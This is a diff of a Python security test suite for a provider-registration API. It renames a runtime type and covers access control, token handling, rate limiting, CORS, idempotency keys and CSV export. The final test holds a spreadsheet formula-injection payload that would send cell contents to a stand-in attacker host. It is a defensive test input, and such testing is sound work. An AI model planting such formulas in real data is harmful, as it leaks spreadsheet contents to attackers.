@@ -19,7 +19,7 @@ from sqlalchemy import text
 
 from harness import ServerProcess
 from ila_register.app import create_app
-from ila_register.runtime import Runtime
+from ila_register.wiring import Services
 from support import Api, FakeClock, example
 
 OTHER_KBO = "0202.239.951"
@@ -81,7 +81,7 @@ def _anonymised(payload: dict[str, Any]) -> dict[str, Any]:
 
 
 @pytest.fixture
-def world(api: Api, runtime: Runtime, clock: FakeClock) -> dict[str, Any]:
+def world(api: Api, runtime: Services, clock: FakeClock) -> dict[str, Any]:
     owner_id, owner = api.register_provider()
     _stranger_id, stranger = api.register_provider(kbo_number=OTHER_KBO)
     offer = api.submit(owner)
@@ -113,7 +113,7 @@ def world(api: Api, runtime: Runtime, clock: FakeClock) -> dict[str, Any]:
 
 
 def test_every_provider_scoped_operation_refuses_every_wrong_credential(
-    api: Api, runtime: Runtime, world: dict[str, Any]
+    api: Api, runtime: Services, world: dict[str, Any]
 ) -> None:
     runtime.auth_limiter.limit = 10_000  # this walk fails on purpose, many times
     operations = _operations(api.client)
@@ -165,7 +165,7 @@ def test_another_providers_reference_is_not_revealed(api: Api) -> None:
 
 
 def test_tokens_are_random_hashed_and_never_logged(
-    api: Api, runtime: Runtime, caplog: pytest.LogCaptureFixture
+    api: Api, runtime: Services, caplog: pytest.LogCaptureFixture
 ) -> None:
     caplog.set_level(logging.DEBUG)
     _provider_id, token = api.register_provider()
@@ -183,7 +183,7 @@ def test_tokens_are_random_hashed_and_never_logged(
     assert all(token not in record.getMessage() for record in caplog.records)
 
 
-def test_failed_authentication_is_rate_limited_per_client(api: Api, runtime: Runtime, clock: FakeClock) -> None:
+def test_failed_authentication_is_rate_limited_per_client(api: Api, runtime: Services, clock: FakeClock) -> None:
     _provider_id, token = api.register_provider()
     limit = runtime.settings.auth.failed_auth_limit
     for _ in range(limit):
@@ -202,7 +202,7 @@ def test_failed_authentication_is_rate_limited_per_client(api: Api, runtime: Run
     assert api.client.get("/api/v1/offers", headers=api.auth("ila_guess")).status_code == 401
 
 
-def test_forwarded_for_from_an_untrusted_client_does_not_reset_the_limit(api: Api, runtime: Runtime) -> None:
+def test_forwarded_for_from_an_untrusted_client_does_not_reset_the_limit(api: Api, runtime: Services) -> None:
     assert runtime.settings.http.trusted_proxies == ()  # the default: no proxy is trusted
     for _ in range(runtime.settings.auth.failed_auth_limit):
         api.client.get("/api/v1/offers", headers=api.auth("ila_guess"))
@@ -259,12 +259,12 @@ def test_cors_is_off_by_default(api: Api) -> None:
     assert "access-control-allow-origin" not in preflight.headers
 
 
-def test_cors_allows_the_configured_portal_to_read_only(runtime: Runtime) -> None:
+def test_cors_allows_the_configured_portal_to_read_only(runtime: Services) -> None:
     portal = "https://www.mijnloopbaan.be"
     settings = msgspec.structs.replace(
         runtime.settings, http=msgspec.structs.replace(runtime.settings.http, cors_origins=(portal,))
     )
-    with TestClient(create_app(settings, runtime=runtime)) as client:
+    with TestClient(create_app(settings, services=runtime)) as client:
         allowed = client.get("/api/v1/search", headers={"Origin": portal})
         assert allowed.headers["access-control-allow-origin"] == portal
         preflight = client.options("/api/v1/search", headers={"Origin": portal, "Access-Control-Request-Method": "GET"})
@@ -286,7 +286,7 @@ def test_cors_allows_the_configured_portal_to_read_only(runtime: Runtime) -> Non
 # -- leaked provider tokens: found by id, revoked, rotated ---------------------------------------
 
 
-def test_the_registration_answer_names_the_token_so_it_can_be_revoked(api: Api, runtime: Runtime) -> None:
+def test_the_registration_answer_names_the_token_so_it_can_be_revoked(api: Api, runtime: Services) -> None:
     answer = api.client.post("/api/v1/providers", json=example("provider.json"), headers=api.admin)
     assert answer.status_code == 201
     body = answer.json()
@@ -322,7 +322,7 @@ def test_a_provider_rotates_its_own_token(api: Api) -> None:
     assert api.client.get("/api/v1/offers", headers=api.auth(stranger)).status_code == 200
 
 
-def test_an_administrator_rotates_every_token_of_a_provider(api: Api, runtime: Runtime) -> None:
+def test_an_administrator_rotates_every_token_of_a_provider(api: Api, runtime: Services) -> None:
     provider_id, first = api.register_provider()
     second = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id)).token
 
@@ -342,7 +342,7 @@ def test_an_administrator_rotates_every_token_of_a_provider(api: Api, runtime: R
 
 
 def test_a_401_does_not_tell_revoked_expired_and_unknown_tokens_apart(
-    api: Api, runtime: Runtime, clock: FakeClock, caplog: pytest.LogCaptureFixture
+    api: Api, runtime: Services, clock: FakeClock, caplog: pytest.LogCaptureFixture
 ) -> None:
     provider_id, _token = api.register_provider()
     revoked = runtime.tokens.issue("provider", provider_id=uuid.UUID(provider_id))
@@ -368,7 +368,7 @@ def test_a_401_does_not_tell_revoked_expired_and_unknown_tokens_apart(
 # -- idempotency keys ----------------------------------------------------------------------------
 
 
-def test_an_idempotency_key_never_replays_one_providers_answer_for_another(api: Api, runtime: Runtime) -> None:
+def test_an_idempotency_key_never_replays_one_providers_answer_for_another(api: Api, runtime: Services) -> None:
     first_id, _first = api.register_provider()
     second_id, second = api.register_provider(kbo_number=OTHER_KBO)
     headers = api.admin | {"Idempotency-Key": "batch-1"}
@@ -387,7 +387,7 @@ def test_an_idempotency_key_never_replays_one_providers_answer_for_another(api: 
     assert replay.json() == created.json()
 
 
-def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Runtime) -> None:
+def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Services) -> None:
     provider_id, token = api.register_provider()
     body = example("offer-training.json")
     reviewer_admin = runtime.tokens.issue("admin").token
@@ -415,7 +415,7 @@ def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Runtime) -> No
 # -- CSV downloads -------------------------------------------------------------------------------
 
 
-def test_a_formula_in_a_rejection_reason_reaches_no_spreadsheet(api: Api, runtime: Runtime) -> None:
+def test_a_formula_in_a_rejection_reason_reaches_no_spreadsheet(api: Api, runtime: Services) -> None:
     _provider_id, token = api.register_provider()
     offer = api.submit(token)
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
